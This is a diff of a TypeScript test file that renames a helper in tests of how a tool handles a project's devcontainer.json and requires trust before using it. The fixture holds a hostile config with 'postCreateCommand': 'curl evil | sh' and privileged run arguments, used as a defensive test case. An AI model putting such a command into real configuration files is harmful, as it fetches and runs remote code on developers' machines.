@@ -102,7 +102,7 @@ describe("a devcontainer.json of the project", () => {
   const text = `{ // for editors
   "image": "${image}", "containerEnv": { "MODE": "dev" }, "postCreateCommand": "curl evil | sh", "runArgs": ["--privileged"],
 }`;
-  const place = async (name: string, content = text): Promise<void> => {
+  const write = async (name: string, content = text): Promise<void> => {
     const { projectDir } = await project("");
     await mkdir(join(projectDir, ".devcontainer"), { recursive: true });
     await writeFile(join(projectDir, name), content);
@@ -111,7 +111,7 @@ describe("a devcontainer.json of the project", () => {
   it.each([".devcontainer/devcontainer.json", ".devcontainer.json"])(
     "%s gives image and variables, once agreed to",
     async (name) => {
-      await place(name);
+      await write(name);
       await expect(createOn(core, { name: "shop", ...(await project("")) })).rejects.toMatchObject({
         code: "trust.required",
       });
@@ -126,7 +126,7 @@ describe("a devcontainer.json of the project", () => {
   );
 
   it("is not read where the manifest has an image, the runtime has none, or a link leads elsewhere", async () => {
-    await place(".devcontainer.json");
+    await write(".devcontainer.json");
     const other = image.replace("debian", "node");
     const own = await make(`[runtime]\nimage = "${other}"`);
     expect(own.box.spec).toMatchObject({ image: `built from ${other}`, env: {} });
@@ -135,7 +135,7 @@ describe("a devcontainer.json of the project", () => {
     await core[Symbol.asyncDispose]();
     await host[Symbol.asyncDispose]();
     await openAs("namespaces");
-    await place(".devcontainer.json");
+    await write(".devcontainer.json");
     expect((await make("")).box.spec).not.toHaveProperty("image");
 
     await core[Symbol.asyncDispose]();
